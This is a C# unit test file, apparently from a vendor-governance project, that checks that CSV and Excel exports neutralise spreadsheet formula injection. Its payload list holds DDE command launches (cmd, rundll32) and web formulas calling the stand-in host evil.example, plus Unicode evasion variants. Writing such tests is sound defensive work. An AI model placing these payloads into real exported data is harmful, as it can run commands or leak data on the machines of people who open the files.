using System.IO.Compression;
using System.Text;
using System.Xml.Linq;
using VendorGov.Documents.Tables;
using Xunit;

namespace VendorGov.UnitTests.Documents;

/// <summary>Words that a spreadsheet would run, in every export: lists go through these two writers alone.</summary>
public sealed class FormulaTests
{
    private static readonly string[] Payloads =
    [
        "=1+2", "=1+2\";=1+2", "+1+2", "-1+2", "@SUM(1,2)", "=cmd|'/c calc'!A0", "=cmd|' /C notepad'!'A1'", "+cmd|'/c calc'!A0", "-cmd|'/c calc'!A0",
        "@cmd|'/c calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "=WEBSERVICE(\"http://evil.example\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
        "=IMPORTDATA(\"http://evil.example\")", "=IMAGE(\"http://evil.example\")", "=DDE(\"cmd\",\"/c calc\",\"1\")", "=MSEXCEL|'\\..\\calc.exe'!''",
        "=rundll32|'URL.dll,OpenURL calc.exe'!A", "\t=1+2", "\r=1+2", "\n=1+2", "\r\n=1+2", " =1+2", "   @SUM(1)", "\u00a0=1+2", "\u3000=1+2", "\u200b=1+2",
        "\ufeff=1+2", "\u200e=1+2", "\u0000=1+2", "\u001f=1+2", "＝1+2", "＋1+2", "－1+2", "＠SUM(1)", "=1+2\r\n=3+4", "=\"a\"&\"b\"", "+\u2060=1", "-+-+1+2",
        "=1+2,=3+4",
    ];

    [Fact]
    public void No_text_begins_as_a_formula_in_a_list_as_csv()
    {
        Assert.Equal(40, Payloads.Distinct().Count());
        var bytes = TableCsv.Render(new TableContent("list", [new TableColumn("words")], Payloads.Select(p => (IReadOnlyList<object?>)[p])));
        var text = Encoding.UTF8.GetString(bytes);
        Assert.All(Payloads, p => Assert.Contains("'" + p.Replace("\"", "\"\"", StringComparison.Ordinal), text, StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("-3.5")]
    [InlineData("+7")]
    [InlineData("-1000000")]
    [InlineData("A-1")]
    [InlineData("")]
    public void Numbers_and_plain_words_stay_as_they_are(string text) => Assert.Equal(text, TableCsv.Safe(text));

    [Fact]
    public void A_workbook_holds_no_formula_whatever_stands_in_its_cells()
    {
        var legal = Payloads.Where(p => !p.Contains('\0', StringComparison.Ordinal) && !p.Contains('\u001f', StringComparison.Ordinal)).ToList();
        var bytes = TableWorkbook.Render(new TableContent("list", [new TableColumn("words")], Payloads.Select(p => (IReadOnlyList<object?>)[p, -3.5m])));
        using var zip = new ZipArchive(new MemoryStream(bytes));
        var sheet = XDocument.Load(zip.Entries.Single(e => e.FullName.StartsWith("xl/worksheets/sheet", StringComparison.Ordinal)).Open());
        var cells = sheet.Descendants().Where(e => e.Name.LocalName == "c").ToList();
        Assert.DoesNotContain(cells, c => c.Elements().Any(e => e.Name.LocalName == "f"));
        Assert.Equal(Payloads.Length, cells.Count(c => c.Elements().Any(v => v.Name.LocalName == "v" && v.Value == "-3.5")));
        var words = XDocument.Load(zip.GetEntry("xl/sharedStrings.xml")!.Open()).Root!.Elements().Select(e => e.Value).ToList();
        Assert.All(legal.Where(p => !p.Contains('\r', StringComparison.Ordinal)), p => Assert.Contains(p, words));
    }
}
